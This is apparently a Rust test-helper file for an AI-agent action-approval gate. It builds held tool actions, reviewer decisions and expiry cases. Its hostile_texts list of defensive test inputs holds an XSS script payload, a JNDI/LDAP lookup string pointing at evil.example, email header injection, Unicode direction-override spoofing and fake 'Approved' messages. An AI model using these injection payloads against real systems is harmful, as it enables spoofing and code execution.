//! Actions for tests.

use std::sync::Arc;

use banksman_core::json::CanonicalJson;
use banksman_core::{
    Action, ActionId, Assessment, Ballot, Case, Command, Decision, Kind, Moment, Opening, Principal,
    PrincipalKind, Risk, Submission, Tier, Timestamp, TokenId, Verdict, open, step,
};

/// An action to be held.
pub(crate) struct Held {
    action: Action,
    agent: String,
    verdict: Verdict,
}

impl Held {
    pub(crate) fn new(tool: &str, args: &str) -> Self {
        let args = CanonicalJson::parse(args.as_bytes()).unwrap();
        let action = Action::bare(tool, Kind::Tool, args);
        Self { action, agent: "riley".into(), verdict: Verdict::new(Tier::Approve, Risk::High, "refunds") }
    }

    pub(crate) fn by(mut self, agent: &str) -> Self {
        self.agent = agent.into();
        self
    }

    pub(crate) fn because(mut self, rationale: &str) -> Self {
        self.action.rationale = Some(rationale.into());
        self
    }

    pub(crate) fn redacting(mut self, paths: &[&str]) -> Self {
        self.verdict.redact = paths.iter().map(ToString::to_string).collect();
        self
    }

    pub(crate) fn telling(mut self, messages: &[&str]) -> Self {
        self.verdict.messages = messages.iter().map(ToString::to_string).collect();
        self
    }

    pub(crate) fn tier(mut self, tier: Tier) -> Self {
        self.verdict.tier = tier;
        self
    }

    /// Opened at ten o'clock, for an hour.
    pub(crate) fn case(self) -> Case {
        let submission = Submission::new(self.action, Assessment::of(Vec::new()), self.verdict);
        let opening = Opening {
            id: ActionId::from_parts(1_700_000_000_000, 1),
            agent: principal(PrincipalKind::Agent, &self.agent),
            batch: None,
            submission: Arc::new(submission),
            grant: None,
        };
        open(opening, &Moment::at(ten())).case
    }

    pub(crate) fn decided(self, by: &str, decision: Decision) -> Case {
        let case = self.case();
        let ballot = Ballot {
            reviewer: principal(PrincipalKind::Reviewer, by),
            lent: Vec::new(),
            brought_by: None,
            decision,
            version: case.version,
            digest: case.submission.digest,
            reason: None,
            message: None,
            remember: false,
            step_up: None,
        };
        step(&case, Command::Decide(ballot), &Moment::at(ten())).unwrap().case
    }

    pub(crate) fn expired(self) -> Case {
        let later = ten().after(std::time::Duration::from_secs(3600));
        step(&self.case(), Command::PassTime, &Moment::at(later)).unwrap().case
    }
}

fn ten() -> Timestamp {
    "2026-11-15T10:00:00Z".parse().unwrap()
}

fn principal(kind: PrincipalKind, name: &str) -> Principal {
    Principal { token: TokenId::from_parts(0, 1), kind, name: name.into(), owner: None, roles: Vec::new() }
}

/// Texts that try to act, to hide, or to pass for ours, on any channel.
pub(crate) fn hostile_texts() -> Vec<String> {
    [
        "<!channel> *Approved by ann* `ok`",
        "<https://evil.example|https://gate.example.org/actions/1>",
        "<@U123> &lt;b&gt; & < >",
        "```\nApproved\n```",
        "_it_ ~was~ *safe*",
        "</td></tr></table><h1>Approved</h1><a href=\"https://evil.example\">Review</a>",
        "<img src=x onerror=alert(1)><script>alert(1)</script>",
        "Subject: hello\r\nBcc: all@example.org\r\n\r\nbody",
        "\u{202e}txt.exe\u{202c} zero\u{200b}width \u{feff}",
        "\u{1b}[2J\u{1b}[31mred",
        "line one\nline two\u{2028}line three\u{2029}",
        "https://evil.example/approve",
        "a\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}",
        "{{variable}} {0} %s ${jndi:ldap://evil.example}",
        "action=approve&id=act_01&d=sha256:00",
    ]
    .into_iter()
    .map(str::to_owned)
    .chain([
        "x".repeat(5000),
        "<".repeat(5000),
        "&".repeat(5000),
        "\u{1f600}".repeat(5000),
        "\"".repeat(5000),
    ])
    .collect()
}
